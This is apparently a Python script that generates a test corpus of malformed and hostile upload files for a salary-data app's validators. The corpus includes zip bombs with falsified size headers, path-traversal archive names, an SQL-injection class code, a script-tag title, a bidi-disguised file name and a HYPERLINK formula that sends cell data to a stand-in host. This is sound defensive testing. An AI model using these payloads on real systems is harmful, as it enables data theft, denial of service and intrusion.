"""Write the binary members of the bad-input corpus (workbooks, PNG/UTF-16/zip files with a
.csv or .json name, bytes that no text encoding accepts). The text members are plain files
written by hand. Run from the repository root after changing this script:

    .venv/bin/python tests/bad_inputs/make_binary_inputs.py

The outputs are committed so the corpus can also be uploaded by hand in the app.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.worksheet.formula import ArrayFormula

HERE = Path(__file__).resolve().parent
HEADER = ["agency", "class_code", "step", "fte", "count"]
# The first bytes of a real PNG (signature, IHDR chunk) and some noise.
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
    b"\x1f\xf3\xffa\x00\x00\x00\x04gAMA\x00\x00\xb1\x8f\x0b\xfca\x05" + bytes(range(256))
)


def workbook(*rows: list, title: str = "Sheet1", setup=None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    if setup:
        setup(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def formulas(ws) -> None:
    ws["D2"] = "=0.5*2"
    ws["F1"] = "note"
    ws["F2"] = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    ws["E3"] = ArrayFormula("E3", "=SUM(1,1)")


def far_cell(ws) -> None:
    # one cell in the sheet's last row and column: the stated size is A1:XFD1048576
    ws.cell(row=1_048_576, column=16_384, value="x")


def wide_row(ws) -> None:
    ws.cell(row=2, column=16_384, value="x")


def zipped(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def write(path: str, data: bytes) -> None:
    (HERE / path).write_bytes(data)


def roster_xlsx_typed_cells() -> None:
    """Typed XLSX cells read by the cell parser's rules (a bool is not a count, a date is not
    an FTE), text the rules refuse, and a sheet named 'Roster' chosen over the first."""
    from datetime import datetime

    dated = ["agency", "class_code", "step", "fte", "count", "next_step_date"]
    write("roster_xlsx/bool_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, True]))
    write("roster_xlsx/tiny_fte.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1e-300, 1]))
    write(
        "roster_xlsx/date_in_fte.xlsx",
        workbook(HEADER, ["Sonoma", "0401", "A", datetime(2005, 1, 1), 1]),
    )
    write(
        "roster_xlsx/ambiguous_date.xlsx",
        workbook(dated, ["Sonoma", "0401", "A", 1, 1, "01/02/03"]),
    )
    write(
        "roster_xlsx/bidi_in_note.xlsx",
        workbook([*HEADER, "note"], ["Sonoma", "0401", "A", 1, 1, "Payroll \u202egpj.exe"]),
    )

    def roster_sheet(ws) -> None:
        other = ws.parent.create_sheet("Roster")
        other.append(HEADER)
        other.append(["Sonoma", "0401", "Z", 1, 1])

    write(
        "roster_xlsx/roster_sheet_second.xlsx",
        workbook(["notes"], ["see the Roster sheet"], setup=roster_sheet),
    )


# Salary tables -----------------------------------------------------------------------------------

WIDE = ["Class No.", "Classification", "Step A", "Step B", "Step C"]
CLERK = ["E100", "ACCOUNT CLERK I", 20.0, 21.0, 22.05]
CLERK_II = ["E101", "ACCOUNT CLERK II", 22.0, 23.1, 24.25]
CFB_SECTOR = 512
FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file (CFB version 3, what Excel 97-2003 and an encrypted OOXML
    workbook are) holding `streams` (at most three, each padded to 4,096 bytes so none goes in
    the mini stream): header, one FAT sector, one directory sector, then the streams."""
    assert len(streams) <= 3
    data = [v.ljust(4096, b"\0") for v in streams.values()]
    fat = [FAT_SECTOR, END]
    starts = []
    for d in data:
        n = len(d) // CFB_SECTOR
        starts.append(len(fat))
        fat += [len(fat) + k + 1 for k in range(n - 1)] + [END]
    fat += [FREE] * (CFB_SECTOR // 4 - len(fat))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", FREE) * 108
    )

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", NO_STREAM, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    names = list(streams)
    entries = [entry("Root Entry", 5, 1 if names else NO_STREAM, NO_STREAM, END, 0)]
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else NO_STREAM
        entries.append(entry(name, 2, NO_STREAM, right, starts[i], len(streams[name])))
    directory = b"".join(entries).ljust(CFB_SECTOR, b"\0")
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(data)


def biff_record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


# An Excel 97-2003 workbook stream: BOF (BIFF8, workbook globals), a sheet's name, EOF.
XLS_WORKBOOK = (
    biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0))
    + biff_record(0x0085, struct.pack("<IBBBB", 0, 0, 0, 8, 0) + b"Schedule")
    + biff_record(0x000A, b"")
)
# An agile-encryption header as Excel writes it before the encrypted package.
ENCRYPTION_INFO = struct.pack("<HHI", 4, 4, 0x40) + (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns='
    b'"http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
    b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining='
    b'"ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
)


def rezipped(data: bytes, change) -> bytes:
    """A workbook with each member's bytes passed through change(name, bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, change(info.filename, src.read(info)), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def bomb_workbook(data: bytes, unpacked: int) -> bytes:
    """`data` with the first sheet's XML padded by spaces before <sheetData> to `unpacked`
    bytes (deflated about 1,000:1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, body, zipfile.ZIP_DEFLATED)
                continue
            head, tail = body.split(b"<sheetData>", 1)
            target = zipfile.ZipInfo(info.filename)
            target.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(target, "w") as member:
                member.write(head)
                pad, chunk = unpacked - len(body), b" " * 1024**2
                while pad > 0:
                    member.write(chunk[: min(pad, len(chunk))])
                    pad -= len(chunk)
                member.write(b"<sheetData>" + tail)
    return out.getvalue()


def lying_sizes(data: bytes, member: str, size: int) -> bytes:
    """A ZIP whose headers state `size` as `member`'s unpacked size, whatever it inflates to
    (a bomb that hides from a check of the stated sizes)."""
    buf = bytearray(data)
    name = member.encode()
    for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        for m in re.finditer(re.escape(sig), bytes(buf)):
            i = m.start()
            n = struct.unpack_from("<H", buf, i + (26 if sig == b"PK\x03\x04" else 28))[0]
            fixed = 30 if sig == b"PK\x03\x04" else 46
            if bytes(buf[i + fixed : i + fixed + n]) == name:
                struct.pack_into("<I", buf, i + at, size)
    return bytes(buf)


def salary_table_inputs() -> None:
    def xlsx(*rows, setup=None, title="Schedule") -> bytes:
        return workbook(*rows, title=title, setup=setup)

    def schedule_formulas(ws) -> None:
        ws["D3"] = "=C3*1.05"
        ws["B4"] = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'

    write(
        "salary_table/formulas.xlsx",
        xlsx(
            WIDE,
            CLERK,
            ["E101", "ACCOUNT CLERK II", 22.0, None, 24.25],
            ["E102", None, 23.0, 24.15, 25.36],
            setup=schedule_formulas,
        ),
    )
    write(
        "salary_table/encrypted_workbook.xlsx",
        compound_file({"EncryptionInfo": ENCRYPTION_INFO, "EncryptedPackage": bytes(4096)}),
    )
    write("salary_table/legacy_xls_renamed.xlsx", compound_file({"Workbook": XLS_WORKBOOK}))
    valid = xlsx(WIDE, CLERK)
    # 210 MB of sheet XML in about 200 KB: over the 200 MB unpacked bound, refused by the
    # sizes the ZIP states before any of it is inflated
    write("salary_table/xlsx_bomb.xlsx", bomb_workbook(valid, 210 * 1024**2))
    # 100 MB stated as 2 KB: passes the stated-size bound, so the reader must stop at the
    # stated size (zipfile does) and refuse the sheet cut short
    lying = bomb_workbook(valid, 100 * 1024**2)
    lying = lying_sizes(lying, "xl/worksheets/sheet1.xml", 2048)
    write("salary_table/xlsx_bomb_lying_size.xlsx", lying)

    def last_row(ws) -> None:
        ws.cell(row=1_048_576, column=1, value="end of sheet")

    write("salary_table/cell_in_row_1048576.xlsx", xlsx(WIDE, CLERK, setup=last_row))

    def claims_every_row(name: str, body: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return body
        return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:E1048576"', body)

    write(
        "salary_table/accepted_dimension_says_1048576_rows.xlsx",
        rezipped(xlsx(WIDE, CLERK, CLERK_II), claims_every_row),
    )

    def surrogate(name: str, body: bytes) -> bytes:
        # a lone surrogate as a character reference: what a writer that does not check its
        # text produces; XML 1.0 has no such character
        if not name.startswith("xl/"):
            return body
        return body.replace(b"ACCOUNT CLERK II", b"ACCOUNT CLERK &#xD800;")

    write(
        "salary_table/lone_surrogate_in_title.xlsx",
        rezipped(xlsx(WIDE, CLERK, ["E101", "ACCOUNT CLERK II", 22.0, 23.1, 24.25]), surrogate),
    )
    write(
        "salary_table/accepted_hostile_titles.xlsx",
        xlsx(
            WIDE,
            ["E100", "<script>alert('x')</script>", 20.0, 21.0, 22.05],
            ["E101", "**ACCOUNT** CLERK [link](http://evil.example/)", 22.0, 23.1, 24.25],
            ["E102", "LEGAL\nSECRETARY I", 23.0, 24.15, 25.36],
        ),
    )
    write(
        "salary_table/overlong_title.xlsx",
        xlsx(WIDE, ["E100", "ACCOUNT CLERK " * 71 + "IIIIII", 20.0, 21.0, 22.05]),
    )
    csv_text = "Class No.,Classification,Step A,Step B,Step C\nE100,ACCOUNT CLERK I,20,21,22.05\n"
    write("salary_table/zip_named_csv.csv", zipped({"schedule.csv": csv_text.encode()}))
    write("salary_table/zip_named_xlsx.xlsx", zipped({"schedule.csv": csv_text.encode()}))
    write(
        "salary_table/nested_zip.zip",
        zipped({"schedule.zip": zipped({"schedule.csv": csv_text.encode()})}),
    )


def gcc_zip_inputs(gcc: bytes) -> None:
    """ZIPs as an attacker would make them: names that point outside the archive, a ZIP in a
    ZIP, a member marked encrypted, a bomb of 500 MB in about 500 KB and one whose headers lie
    about its size; and a Mac's ZIP with its __MACOSX resource fork, which imports."""
    write("sco_gcc/zip_path_traversal.zip", zipped({"../../etc/passwd.csv": gcc}))
    write("sco_gcc/zip_absolute_name.zip", zipped({"/tmp/2016_County.csv": gcc}))
    write("sco_gcc/zip_backslash_name.zip", zipped({"..\\..\\2016_County.csv": gcc}))
    write("sco_gcc/zip_in_zip.zip", zipped({"2016_County.zip": zipped({"2016_County.csv": gcc})}))
    write(
        "sco_gcc/accepted_zip_with_macosx_fork.zip",
        zipped(
            {
                "2016_County.csv": gcc,
                "__MACOSX/._2016_County.csv": b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X",
            }
        ),
    )
    # the flag bit 0x1 is how a ZIP marks a member encrypted (zipfile cannot write one)
    plain = bytearray(zipped({"2016_County.csv": gcc}))
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = plain.index(sig)
        struct.pack_into("<H", plain, i + at, struct.unpack_from("<H", plain, i + at)[0] | 1)
    write("sco_gcc/zip_encrypted_member.zip", bytes(plain))
    big = io.BytesIO()
    block = gcc.splitlines(keepends=True)[1] * (1024**2 // len(gcc))
    with (
        zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("2016_County.csv", "w") as member,
    ):
        member.write(gcc)
        for _ in range(500):
            member.write(block)
    write("sco_gcc/zip_bomb_500_mb.zip", big.getvalue())
    write(
        "sco_gcc/zip_bomb_lying_size.zip",
        lying_sizes(big.getvalue(), "2016_County.csv", 4096),
    )


def main() -> None:
    good_row = ["Sonoma", "0401", "A", 1, 1]
    valid_xlsx = workbook(HEADER, good_row)
    zip_buf = io.BytesIO()
    with zipfile.ZipFile(zip_buf, "w") as z:
        z.writestr("readme.txt", "a zip archive, not a workbook")

    # roster CSV
    write("roster_csv/png_named_csv.csv", PNG)
    write("roster_csv/utf16.csv", "agency,class_code,step,fte,count\r\n".encode("utf-16"))
    write("roster_csv/zip_named_csv.csv", zip_buf.getvalue())

    # roster XLSX
    write("roster_xlsx/formulas.xlsx", workbook(HEADER, good_row, good_row, setup=formulas))
    write(
        "roster_xlsx/missing_fte_column.xlsx",
        workbook(["agency", "class_code", "step", "count"], ["Sonoma", "0401", "A", 1]),
    )
    write("roster_xlsx/wrong_type_fte.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", "full", 1]))
    write("roster_xlsx/negative_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, -3]))
    write("roster_xlsx/huge_count.xlsx", workbook(HEADER, ["Sonoma", "0401", "A", 1, 1e300]))
    write("roster_xlsx/unknown_class.xlsx", workbook(HEADER, ["Sonoma", 9999, "A", 1, 1]))
    write(
        "roster_xlsx/duplicate_ids.xlsx",
        workbook(
            ["agency", "class_code", "step", "fte", "id"],
            ["Sonoma", "0401", "A", 1, 100],
            ["Sonoma", "0402", "B", 1, 100],
        ),
    )
    write(
        "roster_xlsx/sql_in_class_code.xlsx",
        workbook(HEADER, ["Sonoma", "0401'); DROP TABLE scenarios;--", "A", 1, 1]),
    )
    write("roster_xlsx/stray_cell.xlsx", workbook(HEADER, [*good_row, None, "see HR"]))
    write("roster_xlsx/empty_workbook.xlsx", workbook())
    write("roster_xlsx/header_only.xlsx", workbook(HEADER))
    write("roster_xlsx/far_cell.xlsx", workbook(HEADER, good_row, setup=far_cell))
    write("roster_xlsx/wide_row.xlsx", workbook(HEADER, good_row, setup=wide_row))
    write("roster_xlsx/truncated.xlsx", valid_xlsx[:300])
    write(
        "roster_xlsx/csv_named_xlsx.xlsx", b"agency,class_code,step,fte,count\nSonoma,0401,A,1,1\n"
    )
    write("roster_xlsx/png_named_xlsx.xlsx", PNG)
    roster_xlsx_typed_cells()

    # survey template
    write("survey_template/png_named_csv.csv", PNG)
    write("survey_template/xlsx_named_csv.csv", valid_xlsx)
    write(
        "survey_template/utf16.csv",
        "agency,class_title,pay,pay_period,effective_date,source\r\n".encode("utf-16"),
    )
    write(
        "survey_template/not_windows_1252.csv",
        b"agency,class_title,pay,pay_period,effective_date,source\n"
        b"Napa County,Account Clerk \x81\x8d,23.45,hourly,2016-07-01,Napa schedule\n",
    )

    # SCO GCC: the five bytes Windows-1252 leaves undefined are read as the control characters
    # Latin-1 (and Windows itself) gives them, so such a file imports (etl/gcc/archive.py)
    write("sco_gcc/png_named_csv.csv", PNG)
    write(
        "sco_gcc/accepted_undefined_windows_1252_bytes.csv",
        b'"Year","EmployerName","Position","MaxPositionSalary"\n'
        b'"2016","Napa","Office Assistant \x8f\x90","50000.00"\n',
    )
    gcc = (
        b'"Year","EmployerType","EmployerName","Position","MaxPositionSalary"\r\n'
        b'"2016","County","Napa","Office Assistant II","50000.00"\r\n'
    )
    write("sco_gcc/zip_with_no_csv.zip", zipped({"readme.txt": b"no CSV in here"}))
    write("sco_gcc/zip_with_two_csvs.zip", zipped({"2016_a.csv": gcc, "2016_b.csv": gcc}))
    write("sco_gcc/truncated.zip", zipped({"2016_County.csv": gcc * 200})[:150])
    # 11 MB of one repeated line in a 12 KB ZIP: refused by its ratio before it is unpacked
    write("sco_gcc/zip_bomb.zip", zipped({"2016_County.csv": gcc * (11 * 1024**2 // len(gcc))}))
    gcc_zip_inputs(gcc)
    salary_table_inputs()

    # scenario JSON
    write("scenario_json/png_named_json.json", PNG)
    write("scenario_json/utf16.json", '{"agency": "Sonoma"}'.encode("utf-16"))


if __name__ == "__main__":
    main()
